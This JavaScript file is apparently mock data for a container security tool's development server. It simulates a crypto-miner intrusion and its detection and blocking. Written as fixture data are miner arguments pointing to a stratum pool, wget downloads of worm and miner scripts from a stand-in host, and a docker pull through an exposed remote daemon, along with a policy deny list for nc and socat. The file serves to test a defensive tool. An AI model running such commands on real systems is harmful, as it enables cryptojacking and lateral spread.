// SPDX-License-Identifier: Apache-2.0
// What the development server knows: a small shop of containers, and the attack of a miner in steps.
const HOST = 'harbour-1';
const day = 86400e3;

export const iso = (ms) => new Date(ms).toISOString().replace('Z', '123456Z');

const hex = (seed) => {
  let h = 2166136261;
  let out = '';
  for (let i = 0; out.length < 64; i++) {
    for (const c of `${seed}${i}`) h = Math.imul(h ^ c.charCodeAt(0), 16777619) >>> 0;
    out += h.toString(16).padStart(8, '0');
  }
  return out.slice(0, 64);
};

const IMAGES = [
  { image: 'docker.io/library/nginx:1.27', label: 'nginx', group: 'shop', names: ['shop-web-1', 'shop-web-2'] },
  { image: 'registry.local:5000/shop/api:4.2.0', label: 'shop/api', group: 'shop', names: ['shop-api-1', 'shop-api-2', 'shop-api-3'] },
  { image: 'docker.io/library/postgres:16', label: 'postgres', group: 'shop', names: ['shop-db-1'] },
  { image: 'docker.io/library/redis:7', label: 'redis', group: 'shop', names: ['shop-cache-1'] },
  { image: 'docker.io/prom/prometheus:v3.1', label: 'prometheus', group: 'watch', names: ['prometheus'] },
  { image: 'docker.io/grafana/grafana:12.0', label: 'grafana', group: 'watch', names: ['grafana'] },
];

const LINKS = [
  ['shop-web-1', 'shop-api-1', 'tcp', 8080, '/usr/sbin/nginx'], ['shop-web-1', 'shop-api-2', 'tcp', 8080, '/usr/sbin/nginx'],
  ['shop-web-2', 'shop-api-3', 'tcp', 8080, '/usr/sbin/nginx'], ['shop-api-1', 'shop-db-1', 'tcp', 5432, '/app/api'],
  ['shop-api-2', 'shop-db-1', 'tcp', 5432, '/app/api'], ['shop-api-3', 'shop-db-1', 'tcp', 5432, '/app/api'],
  ['shop-api-1', 'shop-cache-1', 'tcp', 6379, '/app/api'], ['shop-api-3', 'shop-cache-1', 'tcp', 6379, '/app/api'],
  ['prometheus', 'shop-api-1', 'tcp', 9100, '/bin/prometheus'], ['grafana', 'prometheus', 'tcp', 9090, '/usr/share/grafana/bin/grafana'],
  ['shop-api-2', 'internet:US', 'tcp', 443, '/app/api', '140.82.112.3'], ['shop-api-1', 'internet:DE', 'tcp', 443, '/app/api', '49.12.20.7'],
  ['grafana', 'internet:SE', 'tcp', 443, '/usr/share/grafana/bin/grafana', '194.68.0.9'], ['prometheus', `host:${HOST}`, 'tcp', 9100, '/bin/prometheus', '172.17.0.1'],
];
const TRUSTED = (image) => (image.startsWith('registry.local') ? 'trusted by ours' : image.includes('gakeaws') ? `untrusted: ${image} is in no allowed group (ours, signed)` : null);
const COUNTRY = { US: 'United States', DE: 'Germany', SE: 'Sweden', SG: 'Singapore' };
const MINER = { image: 'docker.io/gakeaws/nginx:v8.9', label: 'gakeaws/nginx', name: 'sleepy_darwin' };
const MINER_ARGS = ['nginx', '-a', 'cryptonight', '-o', 'stratum+tcp://203.0.113.7:5555', '-k', '--donate-level', '1', '--cpu-priority', '0', '-t', '4'];
const REASON = "[Seawall] container blocked by rule 'stop miners': crypto miner: argument 'stratum+tcp://' of /usr/bin/nginx (pid 4711)";

export class World {
  constructor(emit, scale = 0) {
    this.emit = emit;
    this.host = HOST;
    this.nodes = new Map();
    this.edges = new Map();
    this.containers = new Map();
    this.audits = [];
    this.incidents = [];
    this.events = new Map();
    this.seq = 1;
    this.round = 0;
    this.add({ id: `host:${HOST}`, kind: 'host', label: HOST, color: 'red', badges: ['daemon on open TCP'], worst: 'critical', reason: 'The engine is not reached over TCP without TLS: dockerd listens on tcp://0.0.0.0:2375' });
    for (const i of IMAGES) for (const name of i.names) this.start({ ...i, name, started: Date.now() - day * 3 });
    for (const l of LINKS) this.link(...l);
    for (let n = 0; n < scale; n++)
      this.start({ image: `docker.io/load/app${n % 60}:1`, label: `load/app${n % 60}`, group: `team${n % 7}`, name: `app-${n}`, started: Date.now() - day });
  }

  publish(topic, data) {
    this.emit(topic, data, ++this.seq);
  }

  add(node) {
    const full = { badges: [], color: null, state: null, reason: null, country: null, group: null, worst: null, ...node };
    this.nodes.set(full.id, full);
    this.publish('radar', { op: 'node', node: full });
    return full;
  }

  start({ image, label, group, name, started = Date.now() }) {
    const id = hex(name + this.round);
    const imageId = `image:${image}`;
    const old = this.nodes.get(imageId);
    const containers = [...(old?.containers ?? []), { id, name, state: 'running' }];
    this.add({ id: imageId, kind: 'image', label, group, containers, state: 'running', color: 'green' });
    this.add({ id: `container:${id}`, kind: 'container', parent: imageId, label: name, state: 'running', color: 'green', processes: 3 });
    this.containers.set(id, {
      id, name, image, digest: `sha256:${hex(image)}`, runtime: 'docker', pid: 4000 + this.containers.size, state: 'running',
      created: iso(started - 400), started: iso(started), finished: null, exit_code: 0, blocked_by: null, blocked_reason: null, pod: null,
      namespace: null, workload: null, labels: group ? { 'com.docker.compose.project': group } : {}, trusted: TRUSTED(image), model_state: null, worst: null,
      addresses: ['172.17.0.' + (2 + (this.containers.size % 250))], networks: ['bridge'], privileged: false, host: HOST, rule: 'stop miners',
      restart_policy: 'unless-stopped', compose_project: group ?? null,
    });
    return id;
  }

  idOf(name) {
    return [...this.containers.values()].findLast((c) => c.name === name)?.id;
  }

  link(from, to, proto, port, process, address = null, effect = 'allow') {
    const country = to.startsWith('internet:') ? to.slice(9) : null;
    if (country && !this.nodes.has(to)) this.add({ id: to, kind: 'internet', label: COUNTRY[country], country });
    const a = `container:${this.idOf(from)}`;
    const b = this.idOf(to) ? `container:${this.idOf(to)}` : to;
    const edge = { id: `${a}>${b}:${port}`, from: a, to: b, proto, port, process, count: 12, bytes: 48211, first: iso(Date.now() - 9e5), last: iso(Date.now()), effect, domain: null, country, addresses: address ? [address] : [] };
    this.edges.set(edge.id, edge);
    this.publish('radar', { op: 'edge', edge });
    return edge;
  }

  change(container, values, node = {}) {
    Object.assign(container, values);
    this.publish('container', container);
    this.add({ ...this.nodes.get(`container:${container.id}`), state: container.state, ...node });
    const image = this.nodes.get(`image:${container.image}`);
    this.add({ ...image, ...node, reason: null, state: 'running', containers: image.containers.map((c) => (c.id === container.id ? { ...c, state: container.state } : c)) });
  }

  miner() {
    return this.containers.get(this.idOf(MINER.name));
  }

  // The attack, step by step.
  arrive() {
    this.round++;
    this.attackStart = Date.now();
    this.start({ ...MINER, group: null });
    this.publish('container', this.miner());
  }

  connect() {
    this.link(MINER.name, 'internet:SG', 'tcp', 5555, '/usr/bin/nginx', '203.0.113.7', 'alert');
  }

  alert() {
    this.audit('alert', 'low evidence');
    this.change(this.miner(), { worst: 'critical' }, { color: 'orange', badges: ['incident', 'internet'] });
  }

  block() {
    const edge = [...this.edges.values()].find((e) => e.to === 'internet:SG');
    if (edge) this.publish('radar', { op: 'edge', edge: Object.assign(edge, { effect: 'block' }) });
    this.change(this.miner(), { state: 'blocked', finished: iso(Date.now()), blocked_by: 'stop miners', blocked_reason: REASON, exit_code: 137, pid: 0 }, { color: 'red', reason: REASON });
    this.audit('block');
  }

  remove() {
    const c = this.miner();
    for (const id of [`container:${c.id}`, `image:${c.image}`, 'internet:SG']) {
      this.nodes.delete(id);
      this.publish('radar', { op: 'remove', id });
    }
    for (const e of [...this.edges.values()])
      if (e.to === 'internet:SG') {
        this.edges.delete(e.id);
        this.publish('radar', { op: 'remove', id: e.id });
      }
    Object.assign(c, { state: 'removed' });
  }

  audit(effect) {
    const c = this.miner();
    const now = iso(Date.now());
    const id = `a${this.audits.length + 1}`;
    const blocked = effect === 'block';
    const ref = { id: c.id, name: c.name, image: c.image, digest: c.digest, pod: null, namespace: null, workload: null };
    const audit = {
      id, time: now, kind: 'runtime', detection: 'crypto_miner', rule: 'stop miners', revision: 3, effect, done: effect, severity: 'critical', techniques: ['T1496'],
      message: blocked ? REASON : "crypto miner (T1496): argument '--donate-level' of /usr/bin/nginx (pid 4711), rule 'stop miners'", evidence: 'argv',
      process: { pid: 4711, ppid: 4690, start: now, path: '/usr/bin/nginx', args: MINER_ARGS, args_truncated: false, user: 'root',
        ancestry: [{ pid: 4690, path: '/var/sbin/bash', args: ['bash', '/xmr.sh'] }, { pid: 4655, path: '/sbin/init', args: ['init'] }] },
      file: null, hash: null, network: { direction: null, proto: null, address: null, port: 0, country: null, domain: null },
      container: ref, host: HOST, count: 1, first: now, last: now, incident: `i${this.round}`, latency_ns: 412000,
    };
    this.audits.unshift(audit);
    this.publish('audit', audit);
    let incident = this.incidents.find((i) => i.id === `i${this.round}`);
    if (!incident) {
      incident = { id: `i${this.round}`, opened: now, updated: now, category: 'Crypto miner', severity: 'critical', state: 'open', container: ref, audits: 0, story: '', host: HOST };
      this.incidents.unshift(incident);
    }
    Object.assign(incident, { updated: now, audits: incident.audits + 1,
      story: `In container ${c.name} (gakeaws/nginx:v8.9) the process nginx (pid 4711), started by bash and init as root, showed the arguments of a crypto miner.${blocked ? " The rule 'stop miners' asked to block: every process of the container was killed after 0.4 ms." : ''}` });
    this.publish('incident', incident);
    return audit;
  }

  status() {
    const running = [...this.containers.values()].filter((c) => c.state === 'running').length;
    const on = (name) => ({ name, state: 'on', reason: null, verified_at: iso(Date.now() - 4e3) });
    return {
      ready: true, version: '0.1.0', kernel: '6.18.0', host: HOST, defender: { pid: 801, rss: 14.2e6, cpu_percent: 0.2, cpu_ns: 4.1e9 },
      sensors: [on('exec'), on('exit'), on('socket'), on('payload'), on('cgroup'), { name: 'file', state: 'off', reason: 'needs BPF LSM, which this kernel does not load', verified_at: null }],
      enforcers: [on('exec kill'), on('connect refuse'), on('cgroup kill')],
      runtimes: [{ kind: 'docker', version: '20.10.24', socket: '/run/docker.sock', state: 'connected' }, { kind: 'containerd', version: '1.6.20', socket: '/run/containerd/containerd.sock', state: 'away: connection refused' }],
      events: { seen: 184203 + this.seq, dropped_security: 0, dropped_bulk: 0, blind_ms: 0 }, containers: running, policy_revision: 3,
      warnings: ['File rules are recorded but not enforced: this kernel has no BPF LSM.'],
    };
  }

  processes(c) {
    if (c.state !== 'running') return [];
    const started = c.started;
    const base = { start: started, args_truncated: false, ancestry: [] };
    if (c.name !== MINER.name)
      return [{ ...base, pid: 901, ppid: 1, path: '/usr/sbin/nginx', args: ['nginx', '-g', 'daemon off;'], user: 'root' }, { ...base, pid: 933, ppid: 901, path: '/usr/sbin/nginx', args: ['nginx: worker process'], user: 'nginx' }];
    return [{ ...base, pid: 4655, ppid: 4600, path: '/sbin/init', args: ['init'], user: 'root' }, { ...base, pid: 4690, ppid: 4655, path: '/var/sbin/bash', args: ['bash', '/xmr.sh'], user: 'root' },
      { ...base, pid: 4711, ppid: 4690, path: '/usr/bin/nginx', args: MINER_ARGS, user: 'root' }];
  }

  forensics(c) {
    const t0 = Date.parse(c.started);
    const attack = c.name === MINER.name;
    const none = { container: c.id, container_name: c.name, image: c.image, ppid: 0, path: null, args: [], args_truncated: false, user: null, exit_code: 0, exit_signal: 0, direction: null, proto: null, address: null, port: 0, country: null, domain: null, file: null, audit: null, detection: null, effect: null, done: null, message: null, count: 1, first: null, last: null, bytes_sent: 0, bytes_received: 0 };
    let seq = 0;
    const out = [];
    const put = (ms, type, values) => out.push({ ...none, seq: ++seq, time: iso(t0 + ms), type, pid: 0, ...values });
    const run = (ms, pid, ppid, path, args, life, code = 0) => {
      put(ms, 'fork', { pid, ppid });
      put(ms + 1, 'exec', { pid, ppid, path, args, user: 'root' });
      if (life) put(ms + life, 'exit', { pid, ppid, path, exit_code: code });
    };
    put(-420, 'create', {});
    put(0, 'start', { pid: 4655 });
    if (!attack) {
      run(4, 901, 1, '/usr/sbin/nginx', ['nginx', '-g', 'daemon off;'], 0);
      put(30, 'listen', { pid: 901, path: '/usr/sbin/nginx', direction: 'listen', proto: 'tcp', address: '0.0.0.0', port: 80 });
      for (let i = 0; i < 40; i++) put(1500 + i * 700, 'accept', { pid: 933, path: '/usr/sbin/nginx', direction: 'inbound', proto: 'tcp', address: `172.17.0.${4 + (i % 3)}`, port: 80, count: 3 });
      return out.sort((a, b) => (a.time < b.time ? -1 : 1));
    }
    run(3, 4655, 4600, '/sbin/init', ['init'], 0);
    run(20, 4690, 4655, '/var/sbin/bash', ['bash', '/entry.sh'], 0);
    ['live', 'worm', 'cleanxmr', 'xmr'].forEach((s, i) => {
      run(300 + i * 620, 4695 + i, 4690, '/usr/bin/wget', ['wget', '-q', `http://192.0.2.9:10024/${s}.sh`], 240);
      put(330 + i * 620, 'connect', { pid: 4695 + i, path: '/usr/bin/wget', direction: 'outbound', proto: 'tcp', address: '192.0.2.9', port: 10024, bytes_sent: 310, bytes_received: 2210 });
      put(536 + i * 620, 'close', { pid: 4695 + i, path: '/usr/bin/wget', direction: 'outbound', proto: 'tcp', address: '192.0.2.9', port: 10024, bytes_sent: 310, bytes_received: 2210 });
    });
    run(2900, 4702, 4690, '/bin/grep', ['grep', '-c', 'processor', '/proc/cpuinfo'], 12);
    run(3100, 4705, 4690, '/usr/bin/docker', ['docker', '-H', 'tcp://198.51.100.4:2375', 'pull', 'pocosow/centos:7.6.1810'], 800, 1);
    put(3160, 'connect', { pid: 4705, path: '/usr/bin/docker', direction: 'outbound', proto: 'tcp', address: '198.51.100.4', port: 2375 });
    run(4100, 4711, 4690, '/usr/bin/nginx', MINER_ARGS, 0);
    put(4160, 'connect', { pid: 4711, path: '/usr/bin/nginx', direction: 'outbound', proto: 'tcp', address: '203.0.113.7', port: 5555, country: 'SG' });
    for (const a of this.audits.filter((x) => x.container.id === c.id).reverse())
      put(a.effect === 'block' ? 5200 : 4101, 'audit', { pid: 4711, ppid: 4690, path: '/usr/bin/nginx', args: MINER_ARGS, audit: a.id, detection: a.detection, effect: a.effect, done: a.done, message: a.message, user: 'root' });
    if (c.state !== 'running') {
      for (const [pid, path] of [[4711, '/usr/bin/nginx'], [4690, '/var/sbin/bash'], [4655, '/sbin/init']]) put(5203, 'exit', { pid, path, exit_signal: 9 });
      put(5290, 'stop', { exit_code: 137 });
    }
    return out.sort((a, b) => (a.time < b.time ? -1 : a.time > b.time ? 1 : a.seq - b.seq));
  }
}

export const POLICY = `# What this host enforces. Rules go top to bottom; the first whose scope matches decides.
version: 1
collections:
  - {name: everything}
  - {name: shop, images: ["registry.local:5000/shop/*"]}
runtime:
  - name: shop is strict
    scope: [shop]
    processes:
      crypto_miners: block
      denied: {effect: prevent, paths: [/usr/bin/nc, "*/socat"]}
    network:
      denied: {effect: prevent, ports: [2375, "3333-3340"]}
  - name: stop miners
    scope: [everything]
    processes:
      crypto_miners: alert   # look first
      reverse_shell: alert
trust:
  groups:
    - {name: ours, images: ["registry.local:5000/*"]}
    - name: signed
      notes: by the release key of the shop
      signatures: [{key: cosign.pub}]
  rules:
    - {name: only ours, scope: [everything], allowed: [ours, signed], effect: block}
compliance:
  - name: basics
    scope: [everything]
    checks: {privileged: block, docker_socket: block, host_pid: alert, memory_limit: ignore}
access:
  - {name: ops, users: [alice], actions: ["*"], effect: allow}
  - name: no remote start
    actions: [container_create, container_start, image_create]
    when: {privileged: true, bind: ["/", /etc/*]}
    effect: deny
    message: ask the platform team
  - {name: the rest, effect: allow, audit: all}
`;
